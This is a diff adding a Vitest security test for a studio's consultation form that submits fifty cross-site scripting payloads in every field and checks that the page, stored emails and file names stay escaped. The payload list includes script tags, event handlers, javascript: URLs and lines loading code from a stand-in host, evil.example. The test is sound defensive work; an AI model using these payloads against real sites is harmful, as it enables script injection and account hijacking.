@@ -1,0 +1,107 @@
+import { expect, test } from 'vitest';
+import { openStudio, type Studio } from '../../../tests/open-studio.ts';
+
+/** What people type who want a page to run their script. */
+const ATTACKS = [
+  '<script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '</title><script>alert(1)</script>',
+  '"><script>alert(1)</script>',
+  "'><script>alert(1)</script>",
+  '<ScRiPt>alert(1)</sCrIpT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script src=//evil.example/x.js></script>',
+  '<script>alert(1)//',
+  '</script><script>alert(1)</script>',
+  '<!--<script>alert(1)//-->',
+  '--><script>alert(1)</script>',
+  ']]><script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '"><img src=x onerror=alert(1)>',
+  '<img src=x onerror=alert(1)//',
+  '<img/src=x/onerror=alert(1)>',
+  '<image src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x>',
+  '<math><mi//xlink:href="javascript:alert(1)">',
+  '<body onload=alert(1)>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<form action="javascript:alert(1)"><button>x</button></form>',
+  '<button formaction="javascript:alert(1)">x</button>',
+  '<input autofocus onfocus=alert(1)>',
+  '" autofocus onfocus="alert(1)',
+  "' autofocus onfocus='alert(1)",
+  '` onmouseover=alert(1) `',
+  '" onmouseover="alert(1)" x="',
+  '<details open ontoggle=alert(1)>',
+  '<video><source onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<marquee onstart=alert(1)>',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<style>@import "//evil.example/x.css"</style>',
+  '<base href=//evil.example/>',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '{{constructor.constructor("alert(1)")()}}',
+  '${alert(1)}<b>',
+  '\u2028<script>alert(1)</script>',
+];
+const TYPES = ['text', 'email', 'tel', 'date', 'url', 'textarea', 'select'] as const;
+
+test('fifty attack strings in every answer come back as text, on the page, in the letters, in the file names', async () => {
+  const studio = await openStudio();
+  const { db } = studio.platform;
+  const fields = TYPES.map((type, index) => ({
+    ...{ field_name: `a_${type}`, field_label: `A ${type}`, field_type: type, sort_order: index },
+    is_required: false,
+  }));
+  await db.insertInto('client_form_fields').values(fields).execute();
+  await db
+    .insertInto('client_form_fields')
+    .values({ field_name: 'must', field_label: 'Must', sort_order: 99 })
+    .execute();
+  await db.updateTable('studio_settings').set({ email: 'studio@example.com' }).execute();
+  expect(ATTACKS).toHaveLength(50);
+
+  const harmless = await send(studio, 'x', 'x');
+  for (const [index, attack] of ATTACKS.entries()) {
+    expect(shapeOf(await send(studio, attack, String(index)))).toEqual(shapeOf(harmless));
+  }
+  const letters = await db.selectFrom('mails').select('html').execute();
+  expect(letters).toHaveLength(51);
+  expect(new Set(letters.map(({ html }) => html.match(/</g)?.length)).size).toBe(1);
+  const files = await db.selectFrom('client_files').select('file_name').execute();
+  expect(files).toHaveLength(51);
+  for (const { file_name } of files) expect(file_name).not.toMatch(/[<>"/\\]/);
+}, 60_000);
+
+/** Sends the attack in every answer: the page that comes back. Then once more so that it is stored. */
+async function send(studio: Studio, attack: string, must: string) {
+  // Each couple has an hour of its own as far as limits go.
+  await studio.platform.db.deleteFrom('tries').execute();
+  const visitor = studio.asVisitor();
+  const answers = Object.fromEntries(TYPES.map((type) => [`a_${type}`, attack]));
+  const page = await visitor.post('/consultation', answers);
+  expect(page.status).toBe(400);
+
+  const body = new FormData();
+  for (const [name, value] of Object.entries({ a_text: attack, a_textarea: attack, must })) body.append(name, value);
+  body.append('attached-files', new File(['x'], attack));
+  expect((await visitor.fetch('/consultation', { method: 'POST', body })).status).toBe(303);
+  return page.text();
+}
+
+/** Every tag with the names of its attributes, in order: what an answer must not change, whatever it says. */
+function shapeOf(html: string) {
+  const faults = /<(?:ul|p class="field-error"|b)>[\s\S]*?<\/(?:ul|p|b)>/g;
+  const tags = html.replace(faults, '').matchAll(/<([a-z!/][^\s>]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)[^>]*>/gi);
+  return [...tags].map(([, tag, attributes = '']) => `${tag}${attributes.replace(/="[^"]*"/g, '')}`);
+}
